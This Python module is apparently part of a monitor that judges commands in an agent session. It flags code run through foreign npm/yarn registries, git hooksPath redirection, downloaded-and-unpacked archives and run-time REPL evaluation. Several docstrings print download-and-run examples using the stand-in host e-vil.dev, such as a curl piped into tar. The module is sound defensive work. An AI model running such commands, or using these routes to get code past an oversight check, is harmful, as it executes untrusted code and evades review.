"""Round 27 (t2w, issue 25): code run from what an earlier call wrote or downloaded, where the file that arms it is
not itself code.

* A registry setting in a package manager's configuration file (``registry=``/``@scope:registry=`` in ``.npmrc``,
  ``registry "…"`` in ``.yarnrc``, ``npmRegistryServer:`` in ``.yarnrc.yml``) naming a host off the public registries
  (:data:`package_sources.PUBLIC_HOSTS`): the next ``npm ci``/``yarn install``/``pnpm install`` there fetches and runs
  code (install scripts) from it (:func:`foreign_registry`, read by ``buildfiles._npmrc``). A registry on a public
  host or loopback, and every other setting, stays as before.
* ``git config core.hooksPath DIR`` (any scope): later git verbs run the hooks in DIR; the session remembers the
  directory (:func:`hooks_dir`) so a hook written there in an earlier call is judged by its content when git runs it
  (``scene_files.build_derived``); one written with content Tier 1 did not see, or unpacked there, is opaque. A
  hooks directory no call of the session wrote into stays as before (the ``git config`` call itself is an exec
  vector).
* An archive downloaded from a host off the public sources (:func:`record_download`) and unpacked (in the same call or
  a later one, :func:`archive_origin`) is a tree whose programs Tier 1 never saw: running one of them is opaque even
  under a ``bin/`` or inside the workspace, where round 11 and 15 left an unpacked toolchain's program open
  (``fetched.tree_script_reasons``). An archive from a public host (``github.com``, ``nodejs.org`` …) or made in the
  workspace stays as before, and so does listing or unpacking it without running it.
"""
from __future__ import annotations

import re
from typing import TYPE_CHECKING

from evaluation.verdicts.tier1.package_sources import foreign_url
from evaluation.verdicts.tier1.untrusted import DOWNLOADERS

if TYPE_CHECKING:
    from evaluation.verdicts.tier1.scene_model import Scene, SessionState, View

_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,20}://[^\s\"',\]]{1,2000}")
_HOOKS_GLOBAL = ("-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix")
_SCOPES = frozenset({"--global", "--local", "--system", "--worktree", "--add", "--replace-all"})


def foreign_registry(content: str) -> str | None:
    """The first foreign URL a line naming a registry of a package manager's configuration holds, else None."""
    if "registry" not in content.lower():
        return None
    for line in content.splitlines():
        if "registry" not in line.lower() or line.lstrip().startswith((";", "#", "//")):
            continue
        for url in _URL.findall(line):
            if foreign_url(url):
                return url
    return None


def hooks_dir(argv: tuple[str, ...]) -> str | None:
    """DIR when ``argv`` is ``git [globals] config [scope] core.hooksPath DIR``, else None."""
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 2 if argv[i] in _HOOKS_GLOBAL else 1
    if argv[i:i + 1] != ("config",):
        return None
    words = [a for a in argv[i + 1:] if a not in _SCOPES]
    words = words[1:] if words[:1] == ["set"] else words
    if len(words) == 2 and words[0].lower() == "core.hookspath" and not words[1].startswith("-"):
        return words[1]
    return None


def hook_dirs_runs(state: SessionState) -> list[tuple[str, str, str]]:
    """``build_runs`` entries for the hooks directories the session named: every file in one is a hook git may run
    (a file a call wrote there is judged by its content, one of unseen content or a tree unpacked there is opaque)."""
    return [(directory, "*", "hook") for directory in state.hooks]


DOWNLOADED = ", downloaded"
"""The mark a tree unpacked from a downloaded archive carries in ``SessionState.trees`` (its ``via``)."""
_MAX_FETCHED = 32


_DIST_HOSTS = ("go.dev", "golang.org", "releases.hashicorp.com", "get.helm.sh", "dl.k8s.io", "static.rust-lang.org",
               "julialang-s3.julialang.org", "download.java.net", "objects.githubusercontent.com", "python.org",
               "ziglang.org", "deno.land", "bun.sh", "awscli.amazonaws.com", "dl.min.io", "download.jetbrains.com",
               "cdn.azul.com", "api.adoptium.net", "services.gradle.org", "archive.apache.org", "dlcdn.apache.org",
               "downloads.apache.org", "nodejs.org", "yarnpkg.com", "sh.rustup.rs", "get.docker.com", "cli.github.com")
"""Hosts that publish the official builds of toolchains and tools (an archive from one, unpacked and run, is an
installed toolchain, as round 11 left it), besides the public package sources (:data:`package_sources.PUBLIC_HOSTS`)."""


def _foreign_word(argv: tuple[str, ...]) -> str | None:
    for word in argv[1:24]:
        url = foreign_url(word.split("=", 1)[-1]) if "://" in word else None
        host = url.split("://", 1)[1].split("/", 1)[0].split(":", 1)[0].lower() if url else ""
        if url and not any(host == h or host.endswith("." + h) for h in _DIST_HOSTS):
            return url
    return None


def foreign_word(argv: tuple[str, ...]) -> str | None:
    """The first foreign URL among ``argv``'s words (round 40, lead fa: :mod:`downloaded_builds`)."""
    return _foreign_word(argv)


def record_download(scene: Scene, view: View, state: SessionState) -> None:
    """A downloader's files keep the foreign URL they came from (``curl -o /tmp/a.tgz https://e-vil.dev/a.tgz``)."""
    if view.command.program not in DOWNLOADERS or len(state.fetched) >= _MAX_FETCHED:
        return
    url = _foreign_word(view.command.argv)
    if url is not None:
        state.fetched.update((p, url) for t in view.writes for p in scene.canon(view, t.raw) or ())


def archive_origin(scene: Scene, view: View, state: SessionState) -> str | None:
    """The foreign URL of the archive an extractor unpacks: a file a download of the session wrote, or a downloader
    piped into it (``curl -sL https://e-vil.dev/t.tgz | tar -xz -C /tmp/t``); None for any other archive."""
    command = view.command
    if command.pipeline_pos > 0:
        for earlier in scene.views[-8:]:
            if (earlier.command.pipeline_id == command.pipeline_id and earlier.command.program in DOWNLOADERS
                    and earlier.command.pipeline_pos < command.pipeline_pos):
                url = _foreign_word(earlier.command.argv)
                if url is not None:
                    return url
    if not state.fetched:
        return None
    for word in command.argv[1:24]:
        word = word.removeprefix("--file=")
        if word.startswith("-") or "." not in word:
            continue
        url = next((state.fetched[p] for p in scene.canon(view, word) or () if p in state.fetched), None)
        if url is not None:
            return url
    return None


# program -> (the first words that make it evaluate code, the options whose value is that code)
_EVAL_RUNNERS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "mix": (frozenset({"run"}), frozenset({"-e", "--eval"})), "iex": (frozenset(), frozenset({"-e", "--eval"})),
    "clojure": (frozenset(), frozenset({"-e", "--eval"})), "clj": (frozenset(), frozenset({"-e", "--eval"})),
}


def runner_eval(view: View) -> str | None:
    """Why a task runner or REPL evaluates code built at run time (``mix run -e "$(cat build/x.exs)"``, ``iex -e
    "$(curl …)"``), as ``elixir -e "$(…)"`` already is: code Tier 1 cannot read. Literal code stays as before."""
    spec = _EVAL_RUNNERS.get(view.command.program)
    if spec is None:
        return None
    argv = view.command.argv
    if spec[0] and not spec[0] & set(argv[1:3]):
        return None
    for i, word in enumerate(argv[1:-1], 1):
        if word in spec[1] and "…" in argv[i + 1]:
            return f"{view.command.program} {word} evaluates code known only at run time ({argv[i + 1][:80]!r})"
    return None
